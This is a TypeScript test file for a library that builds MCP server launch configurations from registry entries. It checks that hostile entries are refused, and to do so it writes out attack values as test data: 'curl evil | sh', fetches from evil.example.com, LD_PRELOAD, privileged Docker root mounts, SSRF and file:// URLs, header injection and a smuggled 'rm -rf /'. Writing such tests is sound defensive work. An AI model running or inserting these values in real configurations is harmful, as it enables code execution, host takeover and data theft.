import { ConfigError, McpManager } from 'mcp-fleet';
import { type ServerFromRegistryOptions, serverFromRegistry } from 'mcp-fleet/config';
import { describe, expect, test } from 'vitest';
import { entry, fakeRegistry } from '../../fixtures/registry.js';

function fromRegistry(name: string, options: ServerFromRegistryOptions = {}) {
  return serverFromRegistry(name, { fetch: fakeRegistry().fetch, ...options });
}

/** From a registry whose only entry has this package or remote. */
function published(parts: object, options: ServerFromRegistryOptions = {}) {
  const { fetch } = fakeRegistry([entry({ name: 'com.example/one', ...parts })]);
  return serverFromRegistry('com.example/one', { fetch, ...options });
}

const stdio = { transport: { type: 'stdio' } };
const npm = { ...stdio, registryType: 'npm', identifier: 'one-mcp', version: '1.0.0' };
const oci = { ...stdio, registryType: 'oci', identifier: 'example/one', version: '1.0.0' };

describe('a package becomes a command', () => {
  test('of npm: npx with the exact version', async () => {
    expect(
      await fromRegistry('io.modelcontextprotocol/brave-search', { inputs: { BRAVE_API_KEY: 'key' } }),
    ).toEqual({
      type: 'stdio',
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-brave-search@1.0.2'],
      env: { BRAVE_API_KEY: 'key' },
    });
  });

  test('with arguments that are repeated, and defaults', async () => {
    expect(
      await fromRegistry('io.github.modelcontextprotocol/filesystem', {
        inputs: { target_dir: ['/srv/a', '/srv/b; rm -rf /'] },
      }),
    ).toEqual({
      type: 'stdio',
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-filesystem@1.0.2', '/srv/a', '/srv/b; rm -rf /'],
      env: { LOG_LEVEL: 'info' },
    });
  });

  test('of PyPI: uvx', async () => {
    expect(
      await fromRegistry('io.github.example/weather-mcp', { inputs: { WEATHER_API_KEY: 'key' } }),
    ).toEqual({
      type: 'stdio',
      command: 'uvx',
      args: ['weather-mcp-server@0.5.0'],
      env: { WEATHER_API_KEY: 'key', WEATHER_UNITS: 'celsius' },
    });
  });

  test('of NuGet: dnx, with the arguments of the server behind --', async () => {
    expect(await fromRegistry('io.github.example/sample')).toEqual({
      type: 'stdio',
      command: 'dnx',
      args: ['Example.SampleMcpServer@0.4.0-beta', '--yes', '--', 'mcp', 'start'],
    });
  });

  test('of a container registry: docker, with values of the environment in no argument', async () => {
    expect(
      await fromRegistry('io.github.example/database-manager', {
        inputs: {
          db_type: 'mysql',
          port: 5432,
          'read-only': true,
          database_name: 'crm',
          DB_PASSWORD: 'secret',
        },
      }),
    ).toEqual({
      type: 'stdio',
      command: 'docker',
      args: [
        ...['run', '-i', '--rm', '--network', 'bridge'],
        ...['-e', 'DB_PASSWORD', '-e', 'SSL_MODE', '-e', 'DB_TYPE'],
        'ghcr.io/example/database-manager-mcp:3.1.0',
        ...['--host', 'localhost', '--port', '5432', '--read-only', 'crm'],
      ],
      env: { DB_PASSWORD: 'secret', SSL_MODE: 'prefer', DB_TYPE: 'mysql' },
    });
  });

  test('that mounts what the caller names', async () => {
    const config = await fromRegistry('io.github.modelcontextprotocol/filesystem', {
      from: 'oci',
      inputs: { source_path: '/srv/data' },
    });
    expect(config).toMatchObject({
      args: [
        ...['run', '-i', '--rm', '--mount', 'type=bind,src=/srv/data,dst=/project', '-e', 'LOG_LEVEL'],
        ...['mcp/filesystem:1.0.2', '/project'],
      ],
    });
  });

  test.each([
    [{ identifier: 'example/one', version: '1.0.0' }, 'example/one:1.0.0'],
    [{ identifier: 'one', version: '1.0.0', registryBaseUrl: 'https://docker.io' }, 'one:1.0.0'],
    [{ identifier: 'a/one', version: '1.0.0', registryBaseUrl: 'https://ghcr.io' }, 'ghcr.io/a/one:1.0.0'],
    [{ identifier: 'ghcr.io/a/one', version: '1', registryBaseUrl: 'https://ghcr.io' }, 'ghcr.io/a/one:1'],
    [{ identifier: 'localhost:5000/one', version: '1.0.0' }, 'localhost:5000/one:1.0.0'],
    [{ identifier: 'quay.io/a/one:2.1' }, 'quay.io/a/one:2.1'],
    [{ identifier: `a/one@sha256:${'0'.repeat(64)}` }, `a/one@sha256:${'0'.repeat(64)}`],
  ])('with the image of %o', async (pack, image) => {
    const config = await published({ packages: [{ ...oci, version: undefined, ...pack }] });
    expect(config).toMatchObject({ args: ['run', '-i', '--rm', image] });
  });

  test('that a manager takes', async () => {
    const files = await fromRegistry('io.modelcontextprotocol/brave-search', {
      inputs: { BRAVE_API_KEY: 'key' },
    });
    await using manager = new McpManager({ servers: { files } });
    expect(manager.client('files').status).toBe('idle');
  });
});

describe('a remote server becomes a URL', () => {
  test('with variables and headers; Streamable HTTP comes before SSE and before packages', async () => {
    expect(
      await fromRegistry('com.example/hybrid-mcp', { inputs: { tenant: 'acme', api_key: 'k' } }),
    ).toEqual({
      type: 'http',
      url: 'https://acme.mcp.example.com/eu/mcp',
      headers: { Authorization: 'Bearer k' },
    });
  });

  test('unless the package is asked for', async () => {
    expect(await fromRegistry('com.example/hybrid-mcp', { from: 'npm' })).toEqual({
      type: 'stdio',
      command: 'npx',
      args: ['-y', '@example/hybrid-mcp-server@1.5.0', '--mode', 'local'],
    });
  });

  test('of SSE where there is nothing newer', async () => {
    const remotes = [{ type: 'sse', url: 'https://mcp.example.com/sse' }];
    expect(await published({ remotes })).toEqual({ type: 'sse', url: 'https://mcp.example.com/sse' });
  });

  test('whose beginning the caller gives', async () => {
    const remotes = [
      { type: 'streamable-http', url: '{base_url}/mcp', variables: { base_url: { isRequired: true } } },
    ];
    expect(await published({ remotes }, { inputs: { base_url: 'https://own.example.com/x' } })).toEqual({
      type: 'http',
      url: 'https://own.example.com/x/mcp',
    });
  });

  test.each(['evil.example.com/', 'evil.example.com#', 'a@evil.example.com/?', '[::1]/'])(
    'in which the value %o moves nothing to another host',
    async (tenant) => {
      const config = fromRegistry('com.example/hybrid-mcp', { inputs: { tenant, api_key: 'k' } });
      await expect(config).rejects.toMatchObject({ code: 'INVALID_CONFIG', path: 'remotes.1.url' });
    },
  );

  test.each([
    'http://mcp.example.com/mcp',
    'http://169.254.169.254/latest',
    'file:///etc/passwd',
    'javascript:alert(1)',
    'https://{unexplained}.example.com/mcp',
    'https://user:password@mcp.example.com/mcp',
  ])('but not %o', async (url) => {
    const remotes = [{ type: 'streamable-http', url }];
    await expect(published({ remotes })).rejects.toBeInstanceOf(ConfigError);
  });

  test('by http: where it is allowed', async () => {
    const remotes = [{ type: 'streamable-http', url: 'http://mcp.corp.internal/mcp' }];
    expect(await published({ remotes }, { allowInsecureRequests: true })).toMatchObject({ type: 'http' });
  });

  test.each(['Host', 'Mcp-Session-Id', 'Content-Length', 'bad name', 'X\r\nY'])(
    'without the header %o',
    async (name) => {
      const remotes = [{ type: 'sse', url: 'https://a.example.com', headers: [{ name, value: 'x' }] }];
      await expect(published({ remotes })).rejects.toMatchObject({ code: 'INVALID_CONFIG' });
    },
  );
});

describe('inputs', () => {
  test.each([
    [
      'io.modelcontextprotocol/brave-search',
      {},
      'inputs.BRAVE_API_KEY',
      /needs a value: Brave Search API Key$/,
    ],
    ['com.example/hybrid-mcp', {}, 'inputs.tenant', /Your tenant; also missing: api_key$/],
    [
      'io.modelcontextprotocol/brave-search',
      { BRAVE_KEY: 'x', BRAVE_API_KEY: 'k' },
      'inputs.BRAVE_KEY',
      /did you mean BRAVE_API_KEY\?/,
    ],
    ['com.example/hybrid-mcp', { tenant: 'a', api_key: 'k', region: 'mars' }, 'inputs.region', /"eu", "us"/],
    ['com.example/hybrid-mcp', { tenant: ['a', 'b'], api_key: 'k' }, 'inputs.tenant', /one value/],
    ['com.example/hybrid-mcp', { tenant: {}, api_key: 'k' }, 'inputs.tenant', /expected a text/],
    [
      'com.example/hybrid-mcp',
      { tenant: 'a', api_key: 'k', 'X-Team': 'a\r\nb' },
      'headers.X-Team',
      /visible ASCII/,
    ],
    ['io.github.modelcontextprotocol/filesystem', { target_dir: '--evil' }, 'inputs.target_dir', /dash/],
    ['io.github.modelcontextprotocol/filesystem', { target_dir: 'a\0b' }, 'inputs.target_dir', /NUL/],
  ])('of %s: %o is refused', async (name, inputs, path, message) => {
    const error = await fromRegistry(name, { inputs: inputs as never }).catch((thrown: unknown) => thrown);
    expect(error).toBeInstanceOf(ConfigError);
    expect(error).toMatchObject({ path, message: expect.stringMatching(message) });
  });

  test('that are wrong are not repeated in the error: they may be secret', async () => {
    const inputs = { db_type: 'CANARY', port: 'CANARY', database_name: 'x', DB_PASSWORD: 'CANARY' };
    const error = await fromRegistry('io.github.example/database-manager', { inputs }).catch((e: Error) => e);
    expect(error).toBeInstanceOf(ConfigError);
    expect(String((error as Error).stack)).not.toContain('CANARY');
  });

  test('with braces are not filled in again', async () => {
    const config = await fromRegistry('com.example/hybrid-mcp', {
      inputs: { tenant: 'a', api_key: '{tenant}' },
    });
    expect(config).toMatchObject({ headers: { Authorization: 'Bearer {tenant}' } });
  });

  test('a named argument whose value looks like an option is given in one word', async () => {
    const packages = [{ ...npm, packageArguments: [{ type: 'named', name: '--offset' }] }];
    expect(await published({ packages }, { inputs: { '--offset': -5 } })).toMatchObject({
      args: ['-y', 'one-mcp@1.0.0', '--offset=-5'],
    });
  });

  test('names like __proto__ are names like any other', async () => {
    const variables = JSON.parse('{"__proto__": {"default": "x", "isRequired": true}, "constructor": {}}');
    const packages = [
      { ...npm, packageArguments: [{ type: 'positional', value: '{constructor}-{toString}', variables }] },
    ];
    expect(await published({ packages })).toMatchObject({ args: ['-y', 'one-mcp@1.0.0'] });
    expect(({} as { default?: unknown }).default).toBeUndefined();
  });
});

describe('what a publisher may not do', () => {
  const hostile: [string, object, string][] = [
    ['run a shell', { ...npm, runtimeHint: 'bash' }, 'name'],
    ['run another command', { ...npm, runtimeHint: '/tmp/npx' }, 'name'],
    ['fetch from git', { ...npm, identifier: 'git+https://evil.example.com/x.git' }, 'name'],
    ['fetch from a URL', { ...npm, identifier: 'https://evil.example.com/x.tgz' }, 'name'],
    ['run a file', { ...npm, identifier: '../../tmp/x' }, 'name'],
    ['pass an option as identifier', { ...npm, identifier: '--package=evil' }, 'name'],
    ['pass an option as identifier of an image', { ...oci, identifier: '--privileged' }, 'name'],
    ['leave the version open', { ...npm, version: 'latest' }, 'name'],
    ['give a range', { ...npm, version: '^1.0.0' }, 'name'],
    ['give an open version', { ...npm, version: '1.x' }, 'name'],
    ['hide a URL in the version', { ...npm, version: 'npm:evil@1.0.0' }, 'name'],
    ['use another registry', { ...npm, registryBaseUrl: 'https://evil.example.com' }, 'name'],
    ['leave the tag of an image open', { ...oci, version: 'latest' }, 'name'],
    [
      'change the registry of npx',
      { ...npm, runtimeArguments: [named('--registry', 'https://e')] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'run a script with npx',
      { ...npm, runtimeArguments: [named('-c', 'curl evil | sh')] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'take over the machine',
      { ...oci, runtimeArguments: [{ type: 'positional', value: '--privileged' }] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'change the entry point',
      { ...oci, runtimeArguments: [{ type: 'positional', value: '--entrypoint=sh' }] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'mount the root',
      { ...oci, runtimeArguments: [named('-v', '/:/host')] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'mount by a default',
      { ...oci, runtimeArguments: [{ ...named('-v', '{x}:/host'), variables: { x: { default: '/' } } }] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'smuggle a mount into one word',
      { ...oci, runtimeArguments: [{ type: 'positional', value: '--volume=/:/host' }] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'set PATH',
      { ...npm, environmentVariables: [{ name: 'PATH', value: '/tmp' }] },
      'packages.0.environmentVariables.0.name',
    ],
    [
      'preload a library',
      { ...npm, environmentVariables: [{ name: 'LD_PRELOAD', value: '/tmp/x.so' }] },
      'packages.0.environmentVariables.0.name',
    ],
    [
      'move npm to another registry',
      { ...npm, environmentVariables: [{ name: 'npm_config_registry', value: 'https://e' }] },
      'packages.0.environmentVariables.0.name',
    ],
    [
      'talk to another docker',
      { ...oci, runtimeArguments: [named('-e', 'DOCKER_HOST=tcp://evil')] },
      'packages.0.runtimeArguments.0',
    ],
    [
      'name a variable oddly',
      { ...npm, environmentVariables: [{ name: 'A=B', value: 'x' }] },
      'packages.0.environmentVariables.0.name',
    ],
  ];

  test.each(hostile)('%s', async (_what, pack, path) => {
    await expect(published({ packages: [pack] })).rejects.toMatchObject({ code: 'INVALID_CONFIG', path });
  });

  test('what it writes into a mount does not name the source for the caller', async () => {
    const argument = {
      ...named('--mount', 'type=bind,src=/,dst={target}'),
      variables: { target: { isRequired: true } },
    };
    const config = published(
      { packages: [{ ...oci, runtimeArguments: [argument] }] },
      { inputs: { target: '/data' } },
    );
    await expect(config).rejects.toMatchObject({ path: 'packages.0.runtimeArguments.0' });
  });

  function named(name: string, value: string) {
    return { type: 'named', name, value };
  }
});

describe('an entry that cannot be used', () => {
  test.each([
    ['io.modelcontextprotocol/text-editor', /mcpb packages are not supported/],
    ['io.github.example/local-http', /starts a server of its own/],
  ])('%s: the error says why', async (name, message) => {
    await expect(fromRegistry(name)).rejects.toThrow(message);
  });

  test('is passed over where another package can be used', async () => {
    const packages = [{ ...npm, registryType: 'mcpb' }, { nonsense: true }, npm];
    expect(await published({ packages })).toMatchObject({ command: 'npx' });
  });

  test.each([
    ['an unknown name', 'com.example/unknown', { code: 'UNKNOWN_SERVER' }],
    ['a name like a path', '../admin', { code: 'UNKNOWN_SERVER' }],
    ['no name', '', { code: 'INVALID_CONFIG', path: 'name' }],
    ['a path', 'a/b/c', { code: 'INVALID_CONFIG', path: 'name' }],
  ])('%s', async (_what, name, expected) => {
    await expect(fromRegistry(name)).rejects.toMatchObject(expected);
  });

  test('is not there any more', async () => {
    const { fetch } = fakeRegistry([entry({ name: 'a/b', packages: [npm] }, 'deleted')]);
    await expect(serverFromRegistry('a/b', { fetch })).rejects.toMatchObject({ code: 'UNKNOWN_SERVER' });
  });

  test('is another one than was asked for', async () => {
    const fetch = async () => Response.json(entry({ name: 'evil/one', packages: [npm] }));
    await expect(serverFromRegistry('a/b', { fetch })).rejects.toMatchObject({ code: 'PROTOCOL_ERROR' });
  });
});

test('name and version are parts of the path, whatever is in them', async () => {
  const registry = fakeRegistry();
  const inputs = { BRAVE_API_KEY: 'key' };
  const name = 'io.modelcontextprotocol/brave-search';
  await serverFromRegistry(name, { inputs, version: '1.0.2+build', fetch: registry.fetch });
  expect(registry.asked[0]?.pathname).toBe(
    '/v0.1/servers/io.modelcontextprotocol%2Fbrave-search/versions/1.0.2%2Bbuild',
  );
  for (const version of ['..', '../../x', '', 7 as never])
    await expect(serverFromRegistry(name, { version })).rejects.toMatchObject({ path: 'version' });
  await expect(serverFromRegistry(name, { from: 'cargo' as never })).rejects.toMatchObject({ path: 'from' });
});
